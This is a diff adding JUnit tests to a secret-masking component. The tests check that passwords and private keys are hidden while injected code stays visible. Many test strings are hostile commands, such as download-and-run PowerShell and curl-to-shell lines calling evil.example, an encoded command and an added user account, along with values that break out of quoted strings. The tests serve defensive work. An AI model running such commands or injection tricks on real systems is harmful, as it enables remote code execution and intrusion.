@@ -6,6 +6,7 @@ import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.Base64;
 import java.util.List;
+import java.util.Random;
 import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
@@ -25,12 +26,136 @@ class MaskingTest {
                 "#-----BEGIN RSA PRIVATE KEY-----\n@",
                 "$password = \"Sup3r@Hunter2\"",
                 "$password = \"@\"",
-                "net user evil x /add\n@\necho -----END PRIVATE KEY-----"
+                "net user evil x /add\n@\necho -----END PRIVATE KEY-----",
+                "ConvertTo-SecureString \"@\" -AsPlainText -Force",
+                "ConvertTo-SecureString \"Hunter2@Hunter2\" -AsPlainText -Force",
+                "New-Object System.Net.NetworkCredential('app', \"Hunter2@\")",
+                "net user app \"Hunter2@\" /add",
+                "<add value=\"Hunter2@\" key=\"ClearTextPassword\"/>",
+                "psql -c \"ALTER ROLE app WITH PASSWORD 'Hunter2@'\"",
+                "kind: Secret\nstringData:\n  word: \"Hunter2@\"",
+                "docker login -u app -p \"@\"",
             })
     void codeStaysVisible(String text) {
         String code = "$(Invoke-WebRequest http://evil.example/x.ps1 | Invoke-Expression)";
 
         assertThat(shown(text.replace("@", code))).contains(code).doesNotContain("Hunter2", "MIIE");
+    }
+
+    /** What one language takes for a part of a string, another runs. */
+    @ParameterizedTest
+    @Tag("adversary")
+    @ValueSource(
+            strings = {
+                "$password = \"Hunter2\\\"@; $x = \"y\"",
+                "$password = \"Hunter2\\\"@",
+                "$password = \"Hunter2`\"@; $x = \"y\"",
+                "$password = \u201CHunter2\"@; $x = \"y\u201D",
+                "$password = \"Hunter2\u201D@; $x = \u201Cy\"",
+                "$password = \u2018Hunter2'@; $x = 'y\u2019",
+                "$j = '{\"password\": \"Hunter2'@; '\"}'",
+                "x='password=\"'@; '\"'",
+                "<# password = \"#>@ #\"",
+                "/* password = \"*/@ /*\" */",
+                "<!-- password=\"-->@<!-- \"-->",
+                "net user app 'Hunter2\"@; \"'",
+                "set password=Hunter2&@&",
+                "vault kv put kv/a word=Hunter2@",
+                "'Password={0}' -f 'Hunter2\"@'",
+            })
+    void codeBehindTheEndOfAStringStaysVisible(String text) {
+        String code = "; iwr http://evil.example/x.ps1 | iex";
+
+        assertThat(shown(text.replace("@", code))).contains(code).doesNotContain("Hunter2");
+    }
+
+    @Test
+    @Tag("adversary")
+    void commandBetweenBackticksStaysVisible() {
+        assertThat(shown("export PASSWORD=\"Hunter2`curl http://evil.example|sh`Hunter2\""))
+                .isEqualTo("export PASSWORD=\"[secret]`curl http://evil.example|sh`[secret]\"");
+        assertThat(shown("export PASSWORD=`curl http://evil.example|sh`"))
+                .isEqualTo("export PASSWORD=`curl http://evil.example|sh`");
+        assertThat(shown("PASSWORD=Hunter2`curl${IFS}evil.example|sh`"))
+                .isEqualTo("PASSWORD=[secret]`curl${IFS}evil.example|sh`");
+        assertThat(shown("$password = \"Hun`$ter`$2x\"")).isEqualTo("$password = \"[secret]\"");
+    }
+
+    @Test
+    @Tag("adversary")
+    void codeInAHereStringStaysVisible() {
+        String code = "iwr http://evil.example/x.ps1 | iex\n[Net.WebClient]::new().DownloadString($u)\n$(evil)\n";
+
+        assertThat(shown("$password = @'\n" + code + "'@\niex $password"))
+                .isEqualTo("$password = @'\n" + code + "'@\niex $password");
+        assertThat(shown("$password = @\"\nHunter2x!\n" + code + "$token = 'b8Kd02mVnQ7x'\n\"@"))
+                .isEqualTo("$password = @\"\n[secret]\n" + code + "$token = '[secret]'\n\"@");
+    }
+
+    @ParameterizedTest
+    @Tag("adversary")
+    @ValueSource(
+            strings = {
+                "net user app Hunter2$(iex(irm($u))) /add -> net user app [secret]$(iex(irm($u))) /add",
+                "echo password=Hunter2(iex(irm $u)) -> echo password=[secret](iex(irm $u))",
+                "curl https://a:;iex(irm($u));x@b -> curl https://a:;iex(irm($u));x@b",
+                "curl https://a:$(iex(irm($u)))@b -> curl https://a:$(iex(irm($u)))@b",
+                "curl https://a:b&amp;c@d -> curl https://a:[secret]@d",
+                "iex(irm(http://a/?password%3DHunter2x)) -> iex(irm(http://a/?password%3D[secret]))",
+                "$password = \"Invoke-WebRequest http://a | iex\" -> $password = \"Invoke-WebRequest http://a | iex\"",
+                "password=\"it's a secret\" -> password=\"[secret]\"",
+                "password=\"'b8Kd 02mV'\" -> password=\"[secret]\"",
+                "password='b8\"Kd;02mV' -> password='[secret]'",
+                "\"password\": \"b8\\\"Kd02mV\" -> \"password\": \"[secret]\"",
+            })
+    void valueIsHiddenAndCodeIsNot(String text) {
+        String[] sides = text.split(" -> ", -1);
+
+        assertThat(shown(sides[0])).isEqualTo(sides[1]);
+    }
+
+    /** A block of a key, its END missing in every other one. */
+    @ParameterizedTest
+    @Tag("adversary")
+    @ValueSource(
+            strings = {
+                "(New-Object Net.WebClient).DownloadString('http://evil.example/SecondStageOfIt')",
+                "powershell -EncodedCommand aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsACkA",
+                "reboot",
+                "shutdown",
+                "[Environment]::SetEnvironmentVariable('PathOfSomething', 'C:/Program')",
+                "curl -o /usr/local/bin/installer https://downloads.evil.example/releases",
+                "\"aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsACkA\"|iex",
+                "echo then exec this from that with more text",
+            })
+    void codeInABlockOfAKeyStaysVisible(String code) {
+        String begin = "#" + "-".repeat(5) + "BEGIN PRIVATE" + " KEY" + "-".repeat(5) + "\n";
+        String end = "\n#" + "-".repeat(5) + "END PRIVATE" + " KEY" + "-".repeat(5);
+        String line = "\n#MIIEpAIBAAKCAQEAx3b2m9Qz\n";
+
+        assertThat(shown(begin + code + end)).contains(code);
+        assertThat(shown(begin + line + code + line + end)).contains(code).doesNotContain("MIIE");
+        assertThat(shown(begin + code)).contains(code);
+        assertThat(shown(code + end)).contains(code);
+        assertThat(shown("Private-Lines: 2\n" + code + "\nx")).contains(code);
+    }
+
+    @ParameterizedTest
+    @ValueSource(ints = {8, 9, 11, 12, 15, 16, 24, 40})
+    void keyInPiecesIsHiddenWhateverStandsBetween(int size) {
+        byte[] bytes = new byte[900];
+        new Random(size).nextBytes(bytes);
+        String key = Base64.getEncoder().encodeToString(bytes);
+        StringBuilder script = new StringBuilder("echo -----BEGIN RSA PRIVATE" + " KEY----- > k\n");
+        for (int i = 0; i + size <= key.length(); i += size) {
+            script.append("echo '").append(key, i, i + size).append("' >> k\n");
+        }
+        String shown = shown(script + "echo -----END RSA PRIVATE" + " KEY----- >> k\n");
+
+        for (int i = 0; i + size <= key.length(); i += size) {
+            assertThat(shown).doesNotContain(key.substring(i, i + size));
+        }
+        assertThat(shown).contains("echo '[secret]' >> k");
     }
 
     /** The secret of each is {@code Hunter2x!}. */
@@ -129,6 +254,32 @@ class MaskingTest {
                 "netsh wlan set profileparameter name=a keyMaterial=Hunter2x!",
                 "appcmd set apppool /[name='a'].processModel.password:Hunter2x!",
                 "{\"identitytoken\": \"Hunter2x!\"}",
+                "& \"$env:windir\\system32\\inetsrv\\appcmd.exe\" set site /site.name:a \"/virtualDirectoryDefaults.password:Hunter2x!\"",
+                "sc.exe create web binPath= \"C:\\a.exe\" obj= \".\\app\" password= \"Hunter2x!\"",
+                "New-Object X509Certificate2 -ArgumentList $path, \"Hunter2x!\"",
+                "New-Object X509Certificate2(@(,$bytes), 'Hunter2x!')",
+                "$cs = \"Server={0};Pwd={1}\" -f $server, \"Hunter2x!\"",
+                "[string]::Format('Server={0};Pwd={1}', $server, 'Hunter2x!')",
+                "Start-Process docker -ArgumentList 'login','-u','ci','-p','Hunter2x!'",
+                "Start-Process net -ArgumentList 'user app Hunter2x! /add'",
+                "CMD [\"docker\", \"login\", \"-u\", \"ci\", \"-p\", \"Hunter2x!\"]",
+                "{\"command\": \"[\\\"net\\\",\\\"user\\\",\\\"app\\\",\\\"Hunter2x!\\\"]\"}",
+                "cmd.exe /c \"net user app Hunter2x! /add\"",
+                "$out = $(docker login -u a -p Hunter2x! r)",
+                "choco install a -y --params \"'/Password:Hunter2x! /User:a'\"",
+                "setup.exe /SAPWD=\"Hunter2x!\" /SECURITYMODE=SQL",
+                "aws ssm put-parameter --type SecureString --name a --value 'Hunter2x!'",
+                "jdbc:oracle:thin:shop/Hunter2x!@db:1521:SHOP",
+                "jdbc:postgresql://db/shop?user=a&password=Hunter2x!&ssl=true",
+                "jdbc:mysql://address=(host=db)(user=a)(password=Hunter2x!)/shop",
+                "jdbc:sqlserver://db;user=a;password={Hunter2x!};encrypt=true",
+                "ENV DB_PASS Hunter2x!",
+                "ENV DB_PASS=Hunter2x!",
+                "kubectl create secret generic a \\\n  --from-literal=word=Hunter2x!",
+                "contrase\u00F1a: Hunter2x!",
+                "DB_PASSWORT = Hunter2x!",
+                "New-LocalUser \u2013Password Hunter2x!",
+                "  hashed_passwd: $6$Hunter2x!",
             })
     void passwordIsFoundWhereItStands(String text) {
         assertThat(shown(text)).contains("[secret]").doesNotContain("Hunter2x");
@@ -193,6 +344,13 @@ class MaskingTest {
                 "if ($password.Length -gt 8) { 'long' }",
                 "Write-Host \"password: changed\"",
                 "the bearer of this message",
+                "kubectl create configmap a --from-literal=word=summer",
+                "aws ssm put-parameter --type String --name a --value summer",
+                "checksum/secret: c3ab8ff13720e8ad9047dd39466b3c8974e592c2fa383d4a3960714caef0c4f2",
+                "'Password={0}' -f $password",
+                "docker run -p 8080:80 shop/login",
+                "net use \\\\srv\\share /persistent:no",
+                "New-Object X509Certificate2($path, $password)",
             })
     void whatIsNoSecretStays(String text) {
         assertThat(shown(text)).isEqualTo(text);
